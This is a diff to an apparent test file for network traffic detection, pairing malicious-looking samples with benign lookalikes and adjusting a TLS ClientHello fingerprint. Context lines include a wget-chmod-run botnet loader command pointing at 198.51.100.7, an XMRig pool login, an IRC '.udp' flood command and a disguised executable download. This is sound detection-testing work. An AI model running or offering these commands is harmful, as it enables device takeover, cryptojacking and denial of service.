@@ -13,11 +13,12 @@ def hello(ciphers, extensions):
     """A ClientHello with these ciphers and extensions in this order (JA3 depends on nothing else here)."""
     suites = b"".join(struct.pack(">H", c) for c in ciphers)
     parts = b"".join(struct.pack(">HH", t, len(d)) + d for t, d in extensions)
-    body = b"\x03\x03" + b"\x11" * 32 + b"\0" + struct.pack(">H", len(suites)) + suites + b"\1\0" + struct.pack(">H", len(parts)) + parts
+    body = b"\x03\x01" + b"\x11" * 32 + b"\0" + struct.pack(">H", len(suites)) + suites + b"\1\0" + struct.pack(">H", len(parts)) + parts
     handshake = b"\1" + len(body).to_bytes(3, "big") + body
     return b"\x16\3\1" + struct.pack(">H", len(handshake)) + handshake
 
 
+WINDOWS = hello((47, 53, 5, 10, 49171, 49172, 49161, 49162, 50, 56, 19, 4), [(65281, b"\0"), (10, b"\0\4\0\x17\0\x18"), (11, b"\1\0")])
 LOADER = "cd /tmp; wget http://198.51.100.7/mips; chmod 777 mips; ./mips\nwget http://198.51.100.7/arm7; chmod 777 arm7; ./arm7\n"
 RIG = '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9","pass":"x","agent":"XMRig/6.16"}}\n'
 TABLE = [
@@ -33,7 +34,7 @@ TABLE = [
     (310, tls("/C=GB/ST=London/L=London/O=Global Security/OU=IT Department/CN=example.com"), tls("/C=GB/O=Global Security/OU=Sales/CN=www.shop.example")),
     (311, http("POST /OK21pqJAtyyG", host="10.77.0.80:7080", port=7080, headers=[("Referer", "http://10.77.0.80/OK21pqJAtyyG")], form="OK21pqJAtyyG=" + "U6yKuycpyrtW" * 20), http("POST /login", host="10.77.0.80:7080", port=7080, headers=[("Referer", "http://10.77.0.80/OK21pqJAtyyG")], form="user=a&pass=b")),
     (312, get("/video/6JvA8/", response(PE, ctype="application/x-msdownload", headers=[("Set-Cookie", "6a2=1"), ("Content-Disposition", 'attachment; filename="yr8Gd2kQ.dll"')])), get("/setup/", response(PE, ctype="application/x-msdownload", headers=[("Content-Disposition", 'attachment; filename="setup 1.2.exe"')]))),
-    (313, talk(18443, hello((49192, 49191, 49172, 49171, 159, 158, 57, 51, 157, 156, 61, 60, 53, 47, 49196, 49195, 49188, 49187, 49162, 49161, 106, 64, 56, 50, 10, 19), [])), talk(443, hello((49192, 49191), []))),
+    (313, talk(18443, WINDOWS), talk(443, WINDOWS)),
     (314, tls("/C=US/ST=CA/L=San Jose/O=Ubiquiti Networks Inc./OU=Technical Support/CN=UBNT-24:A4:3C:92:86:E7", host=OUTSIDE), tls("/C=US/ST=CA/L=San Jose/O=Ubiquiti Networks Inc./OU=Technical Support/CN=UBNT-24:A4:3C:92:86:E7")),
     (315, talk(6667, "NICK [USA|XP|0]-842913\r\nUSER x x x :x\r\n"), talk(6667, "NICK alice1984\r\nUSER a a a :Alice\r\n")),
     (316, talk(6667, "NICK a\r\n", s(":op!o@h PRIVMSG #c :.udp 198.51.100.9 80 60\r\n")), talk(6667, "NICK a\r\n", s(":op!o@h PRIVMSG #c :.update your clients please\r\n"))),
